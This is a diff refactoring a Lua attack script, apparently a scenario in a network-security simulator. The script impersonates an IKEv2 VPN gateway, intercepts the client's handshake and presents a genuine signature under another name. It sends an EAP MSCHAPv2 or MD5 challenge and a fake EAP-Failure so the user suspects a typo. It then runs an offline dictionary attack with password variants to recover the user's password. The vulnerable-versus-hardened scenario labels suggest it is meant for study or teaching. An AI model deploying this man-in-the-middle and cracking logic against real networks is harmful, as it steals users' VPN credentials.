@@ -13,10 +13,11 @@ attack = {
   scenarios = { vulnerable = { "rogue-gateway", "rogue-gateway-md5" }, hardened = "rogue-gateway-named" },
 }
 
+local answerer, secrets = library "answerer", library "secrets"
+
 -- Parameters: holds = the node whose certificate and key it has, id = that one's name, method = "mschapv2" or "md5"; dictionary = "common",
 -- each = 60 (tries in one go), pause = "10ms" (between them).
-local p, me, trial = nil, nil, nil
-local tried = 0
+local p, me, trial, search = nil, nil, nil, nil
 local goal = "find the user's password"
 local challenge
 
@@ -37,37 +38,14 @@ local methods = {
     try = function(guess, answer) return eap.mschapv2(guess, challenge, answer.peer, answer.user) == answer.value end,
   },
 }
-local method, dictionary, each, pause
+local method, plan
 
 function on_start(params)
   p = params
   assert(p.holds and p.id, "parameters holds, id")
   method = assert(methods[p.method or "mschapv2"], "method is mschapv2 or md5")
-  dictionary = words(p.dictionary or "common")
-  each = tonumber(p.each or "60")
-  pause = p.pause or "10ms"
+  plan = secrets.plan(p, 60)
   challenge = crypto.random(16)
-end
-
-local function reply(packet, payload, note)
-  inject{ src = packet.dst, src_port = packet.dst_port, dst = packet.src, dst_port = packet.src_port, protocol = "IKE", to = packet.from,
-    payload = payload, note = note }
-end
-local function answer(packet, message, payloads, note)
-  reply(packet, ike.seal({ spi_i = message.spi_i, spi_r = me.spi, exchange = 35, response = true, initiator = false,
-    message_id = message.message_id, payloads = payloads }, me.suite, me.keys), note)
-end
-
--- IKE_SA_INIT, as the gateway would answer it.
-local function begin(packet, message)
-  local proposal = ike.choose(find(message, "SA").proposals[1])
-  local ke = find(message, "KE")
-  local pair = crypto.key_pair{ id = ke.method }
-  me = { suite = ike.suite(proposal), nonce = crypto.random(32), ni = find(message, "Ni/Nr").data, spi = bytes.hex(crypto.random(8)) }
-  me.keys = ike.keys(me.suite, { ni = me.ni, nr = me.nonce, shared = crypto.shared(pair, ke.data), spi_i = message.spi_i, spi_r = me.spi })
-  me.response = ike.encode{ spi_i = message.spi_i, spi_r = me.spi, exchange = 34, response = true, initiator = false, message_id = 0,
-    payloads = { ike.sa(proposal), ike.ke(pair), ike.nonce(me.nonce), ike.notify(16431, "\0\2\0\3\0\4\0\5") } }
-  reply(packet, me.response, "IKE_SA_INIT answered in the gateway's place")
 end
 
 -- IKE_AUTH: a proof that is genuine, under a name that is not the gateway's; and the question.
@@ -79,10 +57,9 @@ local function prove(packet, message, inner)
     return achieved(goal, false, "the client proves itself without EAP: there is no password")
   end
   local id = ike.id("r", 2, p.id)
-  local octets = ike.signed_octets(me.suite.prf, { message = me.response, nonce = me.ni, sk_p = me.keys.sk_pr, id = id.body })
-  local signature, scheme, identifier = crypto.sign(held("key:" .. p.holds), octets)
+  local signature, scheme, identifier = crypto.sign(held("key:" .. p.holds), answerer.own_octets(me, id))
   me.asked = true
-  answer(packet, message, { id, ike.cert(held("cert:" .. p.holds)), ike.auth(14, string.char(#identifier) .. identifier .. signature),
+  answerer.respond(me, packet, message, { id, ike.cert(held("cert:" .. p.holds)), ike.auth(14, string.char(#identifier) .. identifier .. signature),
     { number = 48, body = eap.packet(1, 1, method.type, method.ask()) } },
     "IKE_AUTH: the name " .. p.id .. ", its certificate, a genuine signature (" .. scheme .. "), and a challenge of " .. method.name)
 end
@@ -96,45 +73,27 @@ local function take(packet, message, inner)
     me.over = true
     return achieved(goal, false, "the client does not answer the challenge")
   end
-  trial.at = 1
   mark("The user's client has answered a challenge of mallory's.")
   learn("response", method.name .. " over a challenge of its own: each word can be tried against it", "EAP payload", trial.value)
-  answer(packet, message, { { number = 48, body = eap.packet(4, response.identifier) }, ike.notify(24) }, "EAP-Failure: the user will think of a typing mistake")
-  timer.after("1ms", "try")
+  answerer.respond(me, packet, message, { { number = 48, body = eap.packet(4, response.identifier) }, ike.notify(24) },
+    "EAP-Failure: the user will think of a typing mistake")
+  search = secrets.search(plan, {
+    fits = function(guess) return method.try(guess, trial) end,
+    found = function(guess, tried)
+      learn("EAP password", "the user's password is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on the answer to its challenge", guess)
+      achieved(goal, true, "found at try " .. tried)
+    end,
+    none = function(tried) achieved(goal, false, "not one of " .. tried .. " passwords of the dictionary") end,
+  })
 end
 
-local function variants(word)
-  local capital = word:sub(1, 1):upper() .. word:sub(2)
-  local list = { word, capital, word .. "1", capital .. "1", word .. "123", capital .. "123", word .. "!", capital .. "!" }
-  for year = 2020, 2026 do
-    list[#list + 1] = word .. year
-    list[#list + 1] = capital .. year
-  end
-  return list
-end
-
-function on_timer()
-  local last = math.min(trial.at + math.max(1, each // 22) - 1, #dictionary)
-  for i = trial.at, last do
-    for _, guess in ipairs(variants(dictionary[i])) do
-      tried = tried + 1
-      if method.try(guess, trial) then
-        learn("EAP password", "the user's password is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on the answer to its challenge", guess)
-        return achieved(goal, true, "found at try " .. tried)
-      end
-    end
-  end
-  trial.at = last + 1
-  progress("dictionary", last, #dictionary)
-  if trial.at <= #dictionary then return timer.after(pause, "try") end
-  achieved(goal, false, "not one of " .. tried .. " passwords of the dictionary")
-end
+function on_timer() search() end
 
 on({ protocol = "IKE" }, function(packet, message)
   if packet.to == nil or message.response then return end
   if message.exchange_name == "IKE_SA_INIT" then
     drop("the gateway must not see it")
-    if not me then begin(packet, message) end
+    me = me or answerer.answer(packet, message, "IKE_SA_INIT answered in the gateway's place")
   elseif me and message.spi_r == me.spi then
     drop("meant for the gateway, kept")
     local inner = not me.over and ike.open(packet.payload, me.suite, me.keys)
